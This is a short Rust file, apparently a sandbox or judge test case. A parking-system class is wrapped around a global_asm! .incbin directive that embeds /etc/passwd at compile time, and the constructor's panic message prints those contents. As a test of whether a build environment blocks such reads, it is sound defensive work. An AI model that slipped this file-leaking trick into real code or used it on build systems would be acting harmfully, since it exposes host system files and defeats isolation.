// Includes a file by the assembler: compile-error
std::arch::global_asm!(".globl stolen", "stolen:", ".incbin \"/etc/passwd\"", ".byte 0");
extern "C" {
    static stolen: u8;
}
struct ParkingSystem {
    free: [i32; 4],
}
impl ParkingSystem {
    fn new(big: i32, medium: i32, small: i32) -> Self {
        unsafe {
            panic!(
                "LEAKED {}",
                std::ffi::CStr::from_ptr(&raw const stolen as *const _).to_string_lossy()
            );
        }
        ParkingSystem { free: [0, big, medium, small] }
    }
    fn add_car(&mut self, car_type: i32) -> bool {
        let free = &mut self.free[car_type as usize];
        *free -= 1;
        *free >= 0
    }
}
